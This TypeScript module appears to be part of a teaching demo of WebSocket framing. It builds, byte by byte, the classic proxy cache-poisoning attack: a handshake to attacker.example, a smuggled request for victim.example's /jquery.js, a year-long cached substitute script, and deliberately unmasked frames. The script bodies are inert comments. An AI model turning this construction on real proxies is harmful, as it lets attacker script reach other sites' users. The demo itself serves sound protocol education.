import { acceptKey } from '#demos/protocol/accept-key.ts';
import { concat, utf8Encode } from '#demos/protocol/bytes.ts';
import { encodeUnchecked, headerOf } from '#demos/protocol/frame-encoder.ts';
import { serializeRequestHead, serializeResponseHead } from '#demos/protocol/http-serialize.ts';
import { OPCODE } from '#demos/protocol/opcode.ts';

/** Every byte of the attack, made by the codec. The names are reserved for examples (RFC 2606 §3). */

export const ATTACKER = 'attacker.example';
export const VICTIM = { host: 'victim.example', path: '/jquery.js' } as const;
export const VICTIM_URL = `${VICTIM.host}${VICTIM.path}`;

/** What each of the two servers has at `/jquery.js`. */
export const SCRIPTS = {
  attacker: '/* from attacker.example */\n',
  victim: '/* from victim.example */\n',
} as const;

/** A browser's opening handshake (RFC 6455 §4.1). `key` is the Sec-WebSocket-Key. */
export const upgradeRequest = (key: string): Uint8Array =>
  serializeRequestHead({
    method: 'GET',
    target: '/',
    fields: [
      ['Host', ATTACKER],
      ['Upgrade', 'websocket'],
      ['Connection', 'Upgrade'],
      ['Sec-WebSocket-Key', key],
      ['Sec-WebSocket-Version', '13'],
      ['Origin', `http://${ATTACKER}`],
    ],
  });

/** The server's answer to it (RFC 6455 §4.2.2). */
export const upgradeResponse = (key: string): Uint8Array =>
  serializeResponseHead({
    status: 101,
    reason: 'Switching Protocols',
    fields: [
      ['Upgrade', 'websocket'],
      ['Connection', 'Upgrade'],
      ['Sec-WebSocket-Accept', acceptKey(key).accept],
    ],
  });

/** A request for the script that pages of victim.example load. */
export const scriptRequest = (): Uint8Array =>
  serializeRequestHead({ method: 'GET', target: VICTIM.path, fields: [['Host', VICTIM.host]] });

/** A response that asks to be kept for a year. */
export function scriptResponse(script: string): Uint8Array {
  const body = utf8Encode(script);
  return concat(
    serializeResponseHead({
      status: 200,
      reason: 'OK',
      fields: [
        ['Content-Type', 'text/javascript'],
        ['Cache-Control', 'public, max-age=31536000'],
        ['Content-Length', String(body.length)],
      ],
    }),
    body,
  );
}

/** A binary frame of the client's; `null`: not masked, which no client may do (RFC 6455 §5.1). */
export function clientFrame(payload: Uint8Array, maskingKey: Uint8Array | null): Uint8Array {
  const header = headerOf({ from: 'server', kind: 'data', opcode: OPCODE.binary, fin: true, rsv1: false, payload });
  return encodeUnchecked({ ...header, maskingKey }, payload);
}

export const serverFrame = (payload: Uint8Array): Uint8Array => clientFrame(payload, null);
